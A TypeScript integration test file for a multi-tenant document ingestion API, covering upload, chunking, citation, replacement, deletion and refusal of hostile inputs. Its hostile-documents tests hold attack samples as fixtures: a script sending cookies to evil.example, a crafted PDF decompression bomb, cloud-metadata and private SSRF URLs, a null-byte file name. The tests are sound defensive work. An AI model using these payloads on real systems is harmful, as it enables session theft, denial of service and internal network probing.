import { deflateSync } from "node:zlib";
import type { Hono } from "hono";
import { PDFDocument, PDFName, StandardFonts } from "pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ApiKeys, newApiKey } from "../../shared/adapters/local/api-keys.ts";
import { createServerApp } from "../../shared/channels/http/http-server.ts";
import type { Chunk, Message } from "../../shared/domain/resources.ts";
import type { LlmRequest } from "../../shared/ports/llm.ts";
import { Harness } from "./engine-harness.ts";
import { firstUser, GENERALIST, isEvaluation, isPlan, pass, planOf } from "./scenarios.ts";

/**
 * The tenant's documents end to end on the local runtime: added over HTTP, read and cut into
 * chunks by the documents step, found by a leaf whose task needs them (the passage's URN in its
 * prompt and in its answer's citations), replaced, deleted, and refused when hostile.
 */
const BASE = "https://arbor.example";
const admin = newApiKey({ id: "user_ada", kind: "human", tenant: "acme", roles: ["admin"] });
const member = newApiKey({ id: "user_bob", kind: "human", tenant: "acme", roles: [] });
const stranger = newApiKey({ id: "user_eve", kind: "human", tenant: "globex", roles: ["admin"] });

const HANDBOOK = `# Customer handbook

Everything our support team needs to answer customers.

## Refunds

A damaged item is refunded in full within 14 days of the customer's report.
Refunds go back to the card the order was paid with.

## Shipping

Orders leave the Lyon warehouse every weekday at 16:00.
Express shipping reaches Paris the next morning.
`;

const prompts: string[] = [];
let h: Harness;
let app: Hono;

/** The leaf answers with the passage about refunds, citing it by the URN its prompt gave. */
function leafAnswer(r: LlmRequest) {
  const prompt = firstUser(r);
  prompts.push(prompt);
  const cited = /^- \[(cld:[^\]]+doc\.Chunk[^\]]+)\] \([^)]*\) .*14 days/m.exec(prompt)?.[1];
  return { content: cited ? `Within 14 days [${cited}].` : "I could not find it." };
}

beforeAll(async () => {
  h = await Harness.create({
    script: (r) => {
      if (isPlan(r))
        return planOf({ name: "Refund window", purpose: "How long do refunds of damaged items take?" });
      if (isEvaluation(r)) return pass();
      return leafAnswer(r);
    },
    assistants: GENERALIST,
    settings: { electionThreshold: -1 },
  });
  app = createServerApp({
    engine: h.engine,
    keys: new ApiKeys({ keys: [admin.entry, member.entry, stranger.entry] }),
    publicUrl: BASE,
  });
});
afterAll(() => h.close());

const call = (path: string, init: RequestInit = {}) => app.fetch(new Request(`${BASE}${path}`, init));
const upload = (key: string, name: string, body: NonNullable<RequestInit["body"]>, contentType: string) =>
  call(`/v1/documents?name=${encodeURIComponent(name)}`, {
    method: "POST",
    headers: { authorization: `Bearer ${key}`, "content-type": contentType },
    body,
  });
const get = (key: string, path: string) => call(path, { headers: { authorization: `Bearer ${key}` } });
type Added = { urn: string; status: string; unchanged: boolean };
type State = { status: string; chunks?: number; pages?: number; error?: string; title?: string };

async function addAndWait(
  name: string,
  body: NonNullable<RequestInit["body"]>,
  contentType: string,
): Promise<{ urn: string; state: State }> {
  const res = await upload(admin.key, name, body, contentType);
  expect([200, 202]).toContain(res.status);
  const { urn } = (await res.json()) as Added;
  await h.idle();
  const state = (await (await get(admin.key, `/v1/documents/${encodeURIComponent(urn)}`)).json()) as State;
  return { urn, state };
}

const chunksOf = async (urn: string) => (await h.rt.resources.children(urn, "doc.Chunk")) as Chunk[];

describe("a document added over HTTP", () => {
  let urn: string;

  it("is read into chunks under its headings, each embedded", async () => {
    const added = await addAndWait("handbook.md", HANDBOOK, "text/markdown");
    urn = added.urn;
    expect(urn).toMatch(/^cld:common\.Tenant\.acme\/doc\.Document\.[0-9a-f]{16}$/);
    expect(added.state).toMatchObject({ status: "ready", title: "Customer handbook" });
    const chunks = await chunksOf(urn);
    expect(chunks.length).toBe(added.state.chunks);
    const refunds = chunks.find((c) => c.content.includes("14 days"));
    expect(refunds?.location.headings).toEqual(["Customer handbook", "Refunds"]);
    expect(HANDBOOK.slice(refunds?.location.start, refunds?.location.end)).toBe(refunds?.content);
    const listed = (await (await get(admin.key, "/v1/documents")).json()) as { documents: { urn: string }[] };
    expect(listed.documents.map((d) => d.urn)).toEqual([urn]);
  });

  it("is found by a leaf whose task needs it: the passage's URN in its prompt and in its answer's citations", async () => {
    const sent = await call("/v1/messages", {
      method: "POST",
      headers: { authorization: `Bearer ${admin.key}`, "content-type": "application/json" },
      body: JSON.stringify({ text: "How long do refunds of damaged items take?" }),
    });
    expect(sent.status).toBe(202);
    const { rootTaskId } = (await sent.json()) as { rootTaskId: string };
    await h.idle();
    const refunds = (await chunksOf(urn)).find((c) => c.content.includes("14 days")) as Chunk;
    expect(prompts.at(-1)).toContain("# From the tenant's documents");
    expect(prompts.at(-1)).toContain(`[${refunds.meta.id}]`);
    const leaf = (await h.rt.resources.descendants(rootTaskId, "plan.Task")).at(-1)?.meta.id ?? rootTaskId;
    const output = (await h.rt.resources.getAs("common.Message", `${leaf}/common.Message.output`)) as
      | Message
      | undefined;
    const outputs = output
      ? [output]
      : ((await h.rt.resources.descendants(rootTaskId, "common.Message")) as Message[]).filter(
          (m) => m.meta.name === "output" && m.citations,
        );
    expect(outputs[0]?.citations).toEqual([refunds.meta.id]);
  });

  it("added again unchanged does nothing; changed, replaces its chunks", async () => {
    const same = await upload(admin.key, "handbook.md", HANDBOOK, "text/markdown");
    expect(same.status).toBe(200);
    expect(((await same.json()) as Added).unchanged).toBe(true);
    const before = (await chunksOf(urn)).map((c) => c.meta.id);
    const changed = await addAndWait("handbook.md", HANDBOOK.replace("14 days", "30 days"), "text/markdown");
    expect(changed.urn).toBe(urn);
    expect(changed.state.status).toBe("ready");
    const after = await chunksOf(urn);
    expect(after.some((c) => before.includes(c.meta.id))).toBe(false);
    expect(after.some((c) => c.content.includes("30 days"))).toBe(true);
    expect(after.some((c) => c.content.includes("14 days"))).toBe(false);
  });

  it("keeps only the current version's bytes once it is ready", async () => {
    const sources = (await h.rt.objects.list(`${urn}.source.`)).keys;
    expect(sources).toHaveLength(1);
  });

  it("deleted, takes its chunks, vectors and bytes with it", async () => {
    const chunks: string[] = (await chunksOf(urn)).map((c) => c.meta.id);
    const res = await call(`/v1/documents/${encodeURIComponent(urn)}`, {
      method: "DELETE",
      headers: { authorization: `Bearer ${admin.key}` },
    });
    expect(res.status).toBe(204);
    expect(await chunksOf(urn)).toEqual([]);
    expect((await h.rt.objects.list(`${urn}.source.`)).keys).toEqual([]);
    const [vector] = await h.engine.deps.embedder.embed(["refunds of damaged items"]);
    const left = await h.engine.deps.index.query({
      vector: vector as Float32Array,
      topK: 50,
      type: "doc.Chunk",
    });
    expect(left.filter((m) => chunks.includes(m.key))).toEqual([]);
    expect((await get(admin.key, `/v1/documents/${encodeURIComponent(urn)}`)).status).toBe(404);
  });
});

describe("a PDF", () => {
  it("is read page by page; each chunk says its page", async () => {
    const pdf = await PDFDocument.create();
    const font = await pdf.embedFont(StandardFonts.Helvetica);
    for (const text of [
      "Warranty terms. Batteries are covered for two years.",
      "Spare parts ship from Lyon.",
    ]) {
      pdf.addPage().drawText(text, { x: 50, y: 700, size: 12, font });
    }
    const { state, urn } = await addAndWait("warranty.pdf", Buffer.from(await pdf.save()), "application/pdf");
    expect(state).toMatchObject({ status: "ready", pages: 2, chunks: 2 });
    const chunks = await chunksOf(urn);
    expect(chunks.map((c) => c.location.page).sort()).toEqual([1, 2]);
  });

  it("built to inflate past its size fails on its own thread, saying why; the process goes on", async () => {
    const pdf = await PDFDocument.create();
    const page = pdf.addPage();
    // 300 MB of text operators, deflated to well under a megabyte.
    const ops = Buffer.alloc(300 * 1024 * 1024, "(AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA) Tj\n");
    const stream = pdf.context.flateStream(new Uint8Array(0));
    const bomb = pdf.context.register(stream);
    page.node.set(PDFName.of("Contents"), bomb);
    const bytes = Buffer.from(await pdf.save({ useObjectStreams: false }));
    // Put the deflated operators in place of the empty stream.
    const deflated = deflateSync(ops, { level: 9 });
    const marker = bytes.indexOf("stream\n", bytes.indexOf(`${bomb.objectNumber} 0 obj`));
    const end = bytes.indexOf("\nendstream", marker);
    const head = bytes
      .subarray(0, marker)
      .toString("latin1")
      .replace(/\/Length \d+/g, (m, at: number) =>
        at > bytes.indexOf(`${bomb.objectNumber} 0 obj`) ? `/Length ${deflated.length}` : m,
      );
    const crafted = Buffer.concat([
      Buffer.from(head, "latin1"),
      Buffer.from("stream\n"),
      deflated,
      bytes.subarray(end),
    ]);
    expect(crafted.length).toBeLessThan(2 * 1024 * 1024);
    const { state } = await addAndWait("bomb.pdf", crafted, "application/pdf");
    expect(state.status).toBe("failed");
    expect(state.error).toMatch(/more than|characters of text|could not be read/);
    expect((await get(admin.key, "/healthz")).status).toBe(200);
  }, 120_000);
});

describe("hostile documents", () => {
  it("a ZIP archive disguised as a PDF is refused, saying what it is", async () => {
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(2048, 1)]);
    const res = await upload(admin.key, "report.pdf", zip, "application/pdf");
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/ZIP archive/);
  });

  it("one larger than the bound is refused before it is read whole", async () => {
    const res = await upload(admin.key, "huge.txt", Buffer.alloc(5 * 1024 * 1024, 97), "text/plain");
    expect(res.status).toBe(413);
  });

  it("a 500 MB body is cut off after the bound: the rest is never read, nothing is stored", async () => {
    let sent = 0;
    const chunk = new Uint8Array(1024 * 1024).fill(97);
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 500 * 1024 * 1024) return controller.close();
        sent += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    const res = await call("/v1/documents?name=huge-stream.txt", {
      method: "POST",
      headers: { authorization: `Bearer ${admin.key}`, "content-type": "text/plain" },
      body,
      duplex: "half",
    } as RequestInit);
    expect(res.status).toBe(413);
    expect(sent).toBeLessThan(16 * 1024 * 1024);
    const listed = (await (await get(admin.key, "/v1/documents")).json()) as {
      documents: { name: string }[];
    };
    expect(listed.documents.map((d) => d.name)).not.toContain("huge-stream.txt");
  });

  it("an HTML page's scripts and styles are never part of its text", async () => {
    const html = `<html><head><title>Returns</title><style>p{color:red}</style>
      <script>fetch("https://evil.example/?c="+document.cookie)</script></head>
      <body><h1>Returns</h1><p>Items can be returned within 30 days.</p><script>alert("x")</script></body></html>`;
    const { state, urn } = await addAndWait("returns.html", html, "text/html");
    expect(state).toMatchObject({ status: "ready", title: "Returns" });
    const text = (await chunksOf(urn)).map((c) => c.content).join("\n");
    expect(text).toContain("returned within 30 days");
    expect(text).not.toMatch(/evil|alert|cookie|color/);
  });

  it("another tenant's URN in a document stays text: not cited, not readable", async () => {
    const other = "cld:common.Tenant.globex/common.Conversation.c1/common.Message.m1";
    const { state } = await addAndWait("notes.txt", `Read ${other} for the secret plans.`, "text/plain");
    expect(state.status).toBe("ready");
    const { citationsIn } = await import("../../shared/knowledge/search.ts");
    expect(citationsIn(`See [${other}]`, `- [x] Read ${other}`)).toEqual([]);
  });

  it("a person without the admin role, and another tenant, may not touch them", async () => {
    expect((await upload(member.key, "x.md", "# x", "text/markdown")).status).toBe(403);
    const listed = (await (await get(stranger.key, "/v1/documents")).json()) as { documents: unknown[] };
    expect(listed.documents).toEqual([]);
    const [doc] = ((await (await get(admin.key, "/v1/documents")).json()) as { documents: { urn: string }[] })
      .documents;
    expect((await get(stranger.key, `/v1/documents/${encodeURIComponent(doc?.urn ?? "")}`)).status).toBe(404);
  });

  it("a URL at a loopback, private or metadata address is refused, nothing fetched", async () => {
    for (const url of [
      "http://127.0.0.1:9/doc.md",
      "http://169.254.169.254/latest/meta-data",
      "http://10.0.0.1/x",
    ]) {
      const res = await call("/v1/documents", {
        method: "POST",
        headers: { authorization: `Bearer ${admin.key}`, "content-type": "application/json" },
        body: JSON.stringify({ url }),
      });
      expect(res.status).toBe(403);
    }
  });

  it("bad names and kinds get a clear error", async () => {
    expect(
      (await upload(admin.key, "photo.png", Buffer.from([0x89, 0x50, 0x4e, 0x47, 1, 2]), "image/png")).status,
    ).toBe(400);
    expect(
      (
        await call("/v1/documents", {
          method: "POST",
          headers: { authorization: `Bearer ${admin.key}` },
          body: "x",
        })
      ).status,
    ).toBe(400);
    expect((await upload(admin.key, "a\u0000b.md", "# x", "text/markdown")).status).toBe(400);
  });
});
